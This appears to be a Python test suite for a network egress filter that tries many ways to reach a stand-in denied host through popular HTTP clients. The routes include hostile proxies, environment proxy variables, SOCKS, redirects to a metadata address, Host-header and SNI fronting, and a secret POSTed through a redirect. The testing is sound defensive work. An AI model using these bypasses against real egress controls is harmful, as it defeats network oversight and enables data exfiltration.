"""Proxies of the attacker, open proxies of allowed hosts, redirects, and what only a Host header or a server name tells."""

from __future__ import annotations

import asyncio
import os
import socket
import ssl
import subprocess

import world
from table import ATTEMPTS, attempt

EVIL = f"http://denied.test:{world.PROXY}"
EVIL4 = f"http://{world.DENIED4}:{world.PROXY}"
OPEN = f"http://allowed.test:{world.PROXY}"


def _httpx(url, proxy):
    import httpx

    httpx.Client(proxy=proxy, timeout=2).get(url)


def _httpx2(url, proxy):
    import httpx2

    httpx2.Client(proxy=proxy, timeout=2).get(url)


def _httpx_async(url, proxy):
    import httpx

    async def get():
        async with httpx.AsyncClient(proxy=proxy, timeout=2) as client:
            await client.get(url)

    asyncio.run(get())


def _requests(url, proxy):
    import requests

    requests.get(url, proxies={"http": proxy, "https": proxy}, timeout=2)


def _urllib3(url, proxy):
    import urllib3

    urllib3.ProxyManager(proxy, ca_certs=os.environ["SSL_CERT_FILE"]).request("GET", url, timeout=2, retries=False)


def _urllib(url, proxy):
    import urllib.request

    handler = urllib.request.ProxyHandler({"http": proxy, "https": proxy})
    urllib.request.build_opener(handler).open(url, timeout=2).read()


def _aiohttp(url, proxy):
    import aiohttp

    async def get():
        async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(2)) as client:
            await client.get(url, proxy=proxy)

    asyncio.run(get())


def _pycurl(url, proxy):
    import pycurl

    client = pycurl.Curl()
    client.setopt(pycurl.URL, url)
    client.setopt(pycurl.PROXY, proxy)
    client.setopt(pycurl.TIMEOUT, 2)
    client.perform()


def _curl_cffi(url, proxy):
    from curl_cffi import requests

    requests.get(url, proxies={"http": proxy, "https": proxy}, timeout=2)


def _http_client(url, proxy):
    import http.client

    connection = http.client.HTTPConnection(proxy.removeprefix("http://"), timeout=2)
    connection.request("GET", url)
    connection.getresponse().read()


def _tunnel(url, proxy):
    import http.client

    connection = http.client.HTTPConnection(proxy.removeprefix("http://"), timeout=2)
    _, _, host, path = url.split("/", 3)
    connection.set_tunnel(host, 80)
    connection.request("GET", f"/{path}")
    connection.getresponse().read()


def _websockets(url, proxy):
    from websockets.sync.client import connect

    connect(url.replace("http", "ws", 1), proxy=proxy, open_timeout=2).close()


def _curl(url, proxy):
    subprocess.run(["curl", "-sm2", "-o", "/dev/null", "-x", proxy, url], check=False)


BY_HAND = {
    "httpx": (_httpx, "module:httpx"), "httpx2": (_httpx2, "module:httpx2"), "httpx async": (_httpx_async, "module:httpx"),
    "requests": (_requests, "module:requests"), "urllib3": (_urllib3, "module:urllib3"), "urllib": (_urllib, "module:urllib"),
    "aiohttp": (_aiohttp, "module:aiohttp"), "pycurl": (_pycurl, "module:pycurl"), "curl_cffi": (_curl_cffi, "module:curl_cffi"),
    "http.client": (_http_client, "module:http"), "http.client tunnel": (_tunnel, "module:http"),
    "websockets": (_websockets, "module:websockets"), "curl": (_curl, "program:curl"),
}  # fmt: skip

for _name, (_get, _need) in BY_HAND.items():
    for _what, _proxy in (("by name", EVIL), ("by address", EVIL4)):
        ATTEMPTS.add(
            "proxies",
            f"denied proxy {_what}, {_name}",
            lambda aim, get=_get, proxy=_proxy: get(aim.url("allowed.test"), proxy),
            needs=(_need,),
            quick=_name in {"httpx", "requests"} and _what == "by name",
        )
    ATTEMPTS.add(
        "fronting",
        f"open proxy of an allowed host, {_name}",
        lambda aim, get=_get: get(aim.url(), OPEN),
        needs=(_need,),
    )

# What the environment says, in a process of its own: the clients read it when they please.
ENVIRONMENT = {
    "httpx": "import httpx; httpx.get({url!r}, timeout=2)",
    "httpx2": "import httpx2; httpx2.get({url!r}, timeout=2)",
    "requests": "import requests; requests.get({url!r}, timeout=2)",
    "urllib": "import urllib.request; urllib.request.urlopen({url!r}, timeout=2)",
}


def _with_environment(act, proxy):
    names = ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY")
    before = {name: os.environ.get(name) for name in names}
    os.environ.update(dict.fromkeys(names, proxy))
    try:
        act()
    finally:
        for name, value in before.items():
            os.environ.pop(name) if value is None else os.environ.update({name: value})


for _name, _source in ENVIRONMENT.items():
    ATTEMPTS.add(
        "proxies",
        f"environment names a denied proxy, {_name}",
        lambda aim, source=_source: _with_environment(lambda: exec(source.format(url=aim.url("allowed.test"))), EVIL),
        needs=(f"module:{_name}",),
        quick=_name == "requests",
    )


@attempt("proxies", "program:curl")
def environment_names_a_denied_proxy_curl(aim):
    command = ["curl", "-sm2", "-o", "/dev/null", aim.url("allowed.test")]
    _with_environment(lambda: subprocess.run(command, check=False), EVIL)


@attempt("proxies", "module:aiohttp")
def environment_names_a_denied_proxy_aiohttp(aim):
    import aiohttp

    async def get():
        async with aiohttp.ClientSession(trust_env=True, timeout=aiohttp.ClientTimeout(2)) as client:
            await client.get(aim.url("allowed.test"))

    _with_environment(lambda: asyncio.run(get()), EVIL)


@attempt("proxies", "module:grpc")
def environment_names_a_denied_proxy_grpc(aim):
    import grpc

    def call():
        grpc.insecure_channel(f"allowed.test:{world.ALTERNATE}").unary_unary("/x/y")(aim.secret, timeout=1)

    _with_environment(call, EVIL)


@attempt("proxies", "module:socks", "module:requests")
def socks_requests(aim):
    import requests

    requests.get(aim.url("allowed.test"), proxies={"http": f"socks5h://{world.DENIED4}:{world.SOCKS}"}, timeout=2)


@attempt("proxies", "module:socks")
def socks_module(aim):
    import socks

    opened = socks.socksocket()
    opened.set_proxy(socks.SOCKS5, "denied.test", world.SOCKS)
    opened.settimeout(2)
    opened.connect(("allowed.test", 80))
    opened.sendall(aim.request("allowed.test"))
    opened.recv(10)


@attempt("proxies", "program:curl")
def socks_curl(aim):
    subprocess.run(
        ["curl", "-sm2", "-o", "/dev/null", "--socks4a", f"denied.test:{world.SOCKS}", aim.url("allowed.test")], check=False
    )


@attempt("proxies", "module:pycurl")
def preproxy_pycurl(aim):
    import pycurl

    client = pycurl.Curl()
    client.setopt(pycurl.URL, aim.url("allowed.test"))
    client.setopt(pycurl.PROXY, f"socks5h://denied.test:{world.SOCKS}")
    client.setopt(pycurl.TIMEOUT, 2)
    client.perform()


# -------------------------------------------------------------------------------------------------------------- redirects


def _follow_httpx(url):
    import httpx

    httpx.get(url, follow_redirects=True, timeout=2)


def _follow_httpx_async(url):
    import httpx

    async def get():
        async with httpx.AsyncClient(follow_redirects=True, timeout=2) as client:
            await client.get(url)

    asyncio.run(get())


def _follow_httpx2(url):
    import httpx2

    httpx2.get(url, follow_redirects=True, timeout=2)


def _follow_requests(url):
    import requests

    requests.get(url, timeout=2)


def _follow_urllib3(url):
    import urllib3

    urllib3.PoolManager(ca_certs=os.environ["SSL_CERT_FILE"]).request("GET", url, timeout=2, retries=3)


def _follow_urllib(url):
    import urllib.request

    urllib.request.urlopen(url, timeout=2).read()


def _follow_aiohttp(url):
    import aiohttp

    async def get():
        tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(2)) as client:
            await client.get(url, ssl=tls)

    asyncio.run(get())


def _follow_pycurl(url):
    import pycurl

    client = pycurl.Curl()
    client.setopt(pycurl.URL, url)
    client.setopt(pycurl.FOLLOWLOCATION, 1)
    client.setopt(pycurl.CAINFO, os.environ["SSL_CERT_FILE"])
    client.setopt(pycurl.TIMEOUT, 2)
    client.perform()


def _follow_curl(url):
    subprocess.run(["curl", "-sLm2", "-o", "/dev/null", url], check=False)


def _follow_wget(url):
    subprocess.run(["wget", "-qT2", "-t1", "-O", "/dev/null", url], check=False)


def _follow_node(url):
    subprocess.run(["node", "-e", f"fetch({url!r}).then(()=>process.exit(0),()=>process.exit(1))"], check=False)


FOLLOWERS = {
    "httpx": (_follow_httpx, "module:httpx"), "httpx async": (_follow_httpx_async, "module:httpx"),
    "httpx2": (_follow_httpx2, "module:httpx2"), "requests": (_follow_requests, "module:requests"),
    "urllib3": (_follow_urllib3, "module:urllib3"), "urllib": (_follow_urllib, "module:urllib"),
    "aiohttp": (_follow_aiohttp, "module:aiohttp"), "pycurl": (_follow_pycurl, "module:pycurl"),
    "curl": (_follow_curl, "program:curl"), "wget": (_follow_wget, "program:wget"), "node": (_follow_node, "program:node"),
}  # fmt: skip
TARGETS = {
    "name": lambda aim: aim.url(),
    "address": lambda aim: aim.url(world.DENIED4),
    "metadata": lambda aim: aim.url(world.METADATA4),
    "tls": lambda aim: aim.url(scheme="https"),
    "inside behind a wildcard": lambda aim: aim.url("inner.partner.test"),
    "without scheme": lambda aim: f"//denied.test/{aim.token}",
    "two hops": lambda aim: aim.redirect(aim.url()),
}
for _name, (_get, _need) in FOLLOWERS.items():
    for _what, _to in TARGETS.items():
        ATTEMPTS.add(
            "redirects",
            f"to {_what}, {_name}",
            lambda aim, get=_get, to=_to: get(aim.redirect(to(aim))),
            needs=(_need,),
            quick=_name in {"httpx", "requests"} and _what in {"name", "address"},
        )


@attempt("redirects", "module:requests")
def post_redirected_with_its_body(aim):
    import requests

    requests.post(aim.redirect("http://denied.test/", status=307), data=aim.secret, timeout=2)


@attempt("redirects", "module:requests")
def kept_connection_then_redirect(aim):
    import requests

    with requests.Session() as session:
        session.get("http://allowed.test/", timeout=2)
        session.get(aim.redirect(aim.url()), timeout=2)


# --------------------------------------------------------------------------------------------------------------- fronting


@attempt("fronting", "module:httpx2")
def host_header_httpx2(aim):
    import httpx2

    httpx2.get(aim.url("allowed.test"), headers={"Host": "denied.test"}, timeout=2)


@attempt("fronting", "module:httpx")
def host_header_httpx(aim):
    import httpx

    httpx.get(aim.url("allowed.test"), headers={"Host": "denied.test"}, timeout=2)


@attempt("fronting", "module:requests", quick=True)
def host_header_requests(aim):
    import requests

    requests.get(aim.url("allowed.test"), headers={"Host": "denied.test"}, timeout=2)


@attempt("fronting", "module:aiohttp")
def host_header_aiohttp(aim):
    import aiohttp

    async def get():
        async with aiohttp.ClientSession() as client:
            await client.get(aim.url("allowed.test"), headers={"Host": "denied.test"})

    asyncio.run(get())


@attempt("fronting")
def host_header_urllib(aim):
    import urllib.request

    urllib.request.urlopen(urllib.request.Request(aim.url("allowed.test"), headers={"Host": "denied.test"}), timeout=2)


@attempt("fronting")
def host_header_http_client(aim):
    import http.client

    connection = http.client.HTTPConnection("allowed.test", timeout=2)
    connection.putrequest("GET", f"/{aim.token}", skip_host=True)
    connection.putheader("Host", "denied.test")
    connection.endheaders()
    connection.getresponse()


@attempt("fronting", "module:websockets")
def host_header_websockets(aim):
    from websockets.sync.client import connect

    opened = socket.create_connection(("allowed.test", 80), 2)
    connect(f"ws://denied.test/{aim.token}", sock=opened, open_timeout=2).close()


@attempt("fronting")
def absolute_target_http_client(aim):
    import http.client

    connection = http.client.HTTPConnection("allowed.test", timeout=2)
    connection.request("GET", aim.url())
    connection.getresponse()


@attempt("fronting")
def second_request_on_a_kept_connection(aim):
    import http.client

    connection = http.client.HTTPConnection("allowed.test", timeout=2)
    connection.request("GET", "/")
    connection.getresponse().read()
    connection.request("GET", f"/{aim.token}", headers={"Host": "denied.test"})
    connection.getresponse().read()


@attempt("fronting", "program:curl")
def host_header_curl(aim):
    subprocess.run(["curl", "-sm2", "-o", "/dev/null", "-H", "Host: denied.test", aim.url("allowed.test")], check=False)


@attempt("fronting", "program:curl")
def server_name_curl(aim):
    command = ["curl", "-skm2", "-o", "/dev/null", "--connect-to", "denied.test:443:allowed.test:443", aim.url(scheme="https")]
    subprocess.run(command, check=False)


@attempt("fronting")
def host_header_raw(aim):
    opened = socket.create_connection(("allowed.test", 80), 2)
    opened.sendall(aim.request("denied.test"))
    opened.recv(10)


@attempt("fronting")
def connect_raw(aim):
    opened = socket.create_connection(("allowed.test", world.PROXY), 2)
    opened.sendall(b"CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\n")
    opened.recv(100)
    opened.sendall(aim.request())
    opened.recv(10)


@attempt("fronting")
def socks_raw(aim):
    opened = socket.create_connection(("allowed.test", world.SOCKS), 2)
    opened.sendall(b"\5\1\0")
    opened.recv(10)
    opened.sendall(b"\5\1\0\3\x0bdenied.test\0\x50")
    opened.recv(10)
    opened.sendall(aim.request())
    opened.recv(10)


@attempt("fronting")
def server_name_raw(aim):
    opened = socket.create_connection(("allowed.test", 443), 2)
    with aim.tls.wrap_socket(opened, server_hostname=f"{aim.token}.denied.test") as tls:
        tls.sendall(aim.request())
        tls.recv(10)


@attempt("fronting")
def host_inside_of_tls_raw(aim):
    opened = socket.create_connection(("allowed.test", 443), 2)
    with aim.tls.wrap_socket(opened, server_hostname="allowed.test") as tls:
        tls.sendall(aim.request())
        tls.recv(10)


@attempt("fronting", "module:httpx2")
def host_inside_of_tls_httpx2(aim):
    import httpx2

    httpx2.get(aim.url("allowed.test", scheme="https"), headers={"Host": "denied.test"}, timeout=2)


@attempt("fronting", "module:httpx2")
def server_name_httpx2(aim):
    import httpx2

    with httpx2.Client(timeout=2) as client:
        request = client.build_request(
            "GET", aim.url("allowed.test", scheme="https"), extensions={"sni_hostname": f"{aim.token}.denied.test"}
        )
        client.send(request)


@attempt("fronting", "module:requests")
def denied_name_that_resolves_to_an_allowed_address(aim):
    import requests

    requests.get(aim.url("front.denied.test"), timeout=2)
